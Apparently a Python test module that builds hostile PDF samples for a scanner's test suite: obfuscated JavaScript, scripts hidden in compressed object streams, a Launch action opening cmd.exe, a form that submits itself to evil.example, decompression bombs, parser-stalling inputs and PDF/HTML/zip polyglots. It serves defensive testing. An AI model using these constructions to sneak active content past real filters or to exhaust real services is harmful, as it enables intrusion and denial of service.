"""PDF: scripts and programs, openly, in disguise and packed away; bombs; damage; documents that are two things."""

from __future__ import annotations

import zlib
from collections.abc import Iterator

from tests.hostile.kit import EITHER, TAKEN, hostile, zipped


def pdf(*objects: bytes, head: bytes = b"%PDF-1.7\n", tail: bytes = b"") -> bytes:
    """A document of these objects after the catalogue and one empty page."""
    usual = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    )
    out, places = bytearray(head), []
    for number, content in enumerate((*usual, *objects), 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1) + table
    out += b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, tail, start)
    return bytes(out)


def stream(content: bytes, dictionary: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n" % (dictionary, len(content)) + content + b"\nendstream"


def packed(content: bytes, dictionary: bytes = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode") -> bytes:
    return stream(zlib.compress(content, 9), dictionary)


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


@hostile("attachments")
def active() -> Iterator[tuple[str, bytes]]:
    yield "script", pdf(SCRIPT)
    yield "script with escaped letters", pdf(b"<</S/J#61vaScript/JS(x)>>")
    yield "script all escaped", pdf(b"<</S/" + b"".join(b"#%02x" % letter for letter in b"JavaScript") + b"/JS(x)>>")
    yield "script in capital escapes", pdf(b"<</S/#4AavaScript/JS 5 0 R>>")
    yield "script in an object stream", pdf(packed(b"4 0 " + SCRIPT))
    yield "escaped script in an object stream", pdf(packed(b"4 0 <</S/Java#53cript/JS(x)>>"))
    yield (
        "object stream named with escapes",
        pdf(packed(b"4 0 " + SCRIPT, b"/Type/Obj#53tm/N 1/First 4/Filter/FlateDecode")),
    )
    for name in (b"/ASCIIHexDecode", b"/ASCII85Decode", b"/LZWDecode", b"/RunLengthDecode", b"/AHx"):
        kind = b"/Type/ObjStm/N 1/First 4/Filter[" + name + b"/FlateDecode]"
        yield f"object stream packed by {name[1:].decode()}", pdf(packed(b"4 0 " + SCRIPT, kind))
    yield (
        "object stream with a predictor",
        pdf(packed(b"4 0 " + SCRIPT, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12>>")),
    )
    yield (
        "object stream whose filter is elsewhere",
        pdf(packed(b"4 0 " + SCRIPT, b"/Type/ObjStm/N 1/First 4/Filter 9 0 R")),
    )
    yield "script hidden in another stream", pdf(stream(b"9 0 obj" + SCRIPT + b"endobj"))
    yield "launch", pdf(b"<</S/Launch/Win<</F(cmd.exe)>>>>")
    yield "file inside", pdf(b"<</Type/EmbeddedFile>>")
    yield "files inside", pdf(b"<</Names<</EmbeddedFiles 5 0 R>>>>")
    yield "rich media", pdf(b"<</Subtype/RichMedia>>")
    yield "form that sends itself", pdf(b"<</S/SubmitForm/F(http://evil.example)>>")
    yield "import of data", pdf(b"<</S/ImportData/F(x)>>")
    yield "film", pdf(b"<</S/Rendition/OP 0>>")
    yield "embedded goto", pdf(b"<</S/GoToE/T<<>>>>")


@hostile("attachments")
def locked_or_damaged() -> Iterator[tuple[str, bytes]]:
    yield "encrypted", pdf(b"<<>>", tail=b"/Encrypt 9 0 R")
    yield "encrypted with escapes", pdf(b"<<>>", tail=b"/#45ncrypt 9 0 R")
    whole = pdf(b"<<>>")
    for part in (10, 50, 90):
        yield f"cut at {part} percent", whole[: len(whole) * part // 100]
    yield "only a head", b"%PDF-1.7"
    yield "head behind a page", b"<html>\n" + whole
    yield "head behind blanks", b" " * 100 + whole
    yield "no end", whole.replace(b"%%EOF", b"")
    yield "end far before the end", whole + bytes(5_000)


@hostile("attachments")
def pdf_bombs() -> Iterator[tuple[str, bytes]]:
    yield "object stream of 100 MB", pdf(packed(bytes(100 << 20)))
    yield "object streams of 10 MB each", pdf(*[packed(bytes(10 << 20))] * 8)
    yield "30000 object streams", pdf(*[packed(b"")] * 30_000)


@hostile("attachments", EITHER)
def slow_to_search() -> Iterator[tuple[str, bytes]]:
    yield "escapes without end", pdf(stream(b"#41" * 5_000_000))
    yield "slashes without end", pdf(stream(b"/" * 15_000_000))
    yield "first letters without end", pdf(stream(b"/J" * 7_500_000))
    yield "nearly scripts", pdf(stream(b"/JavaScrip" * 1_500_000))
    yield "nearly escaped scripts", pdf(stream(b"/#4a#61#76#61#53#63#72#69#70" * 500_000))
    yield "obj without end", pdf(stream(b"obj " * 3_000_000))
    # Each stream is packed as it stands and holds all the following ones; blocks without content make them long.
    blocks = b"\0\0\0\xff\xff" * 1_000_000
    nested = b"".join(
        b"4 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n\x78\x01" + blocks[: 5 * n] for n in range(1_000)
    )
    yield "streams within streams", pdf(nested + blocks)
    heads = b"/ObjStm/FlateDecode stream\n\x78\x01\0\x1d\0\xe2\xff" * 100_000
    yield "streams side by side in one another", pdf(heads + blocks)
    yield "deep arrays", pdf(b"[" * 1_000_000 + b"]" * 1_000_000)


@hostile("attachments", TAKEN)
def two_things() -> Iterator[tuple[str, bytes]]:
    """Kept as they are, handed out as a file to be saved, never shown as a page."""
    yield "page inside", pdf(stream(b"<html><script>alert(1)</script></html>"))
    yield "archive behind", pdf(stream(zipped({"a.txt": b"a"}))) + zipped({"b.txt": b"b"}) + b"%%EOF"
    yield "honest object stream", pdf(packed(b"4 0 <</Type/Font>>"))
    yield "link to a page", pdf(b"<</S/URI/URI(https://www.example.cn)>>")
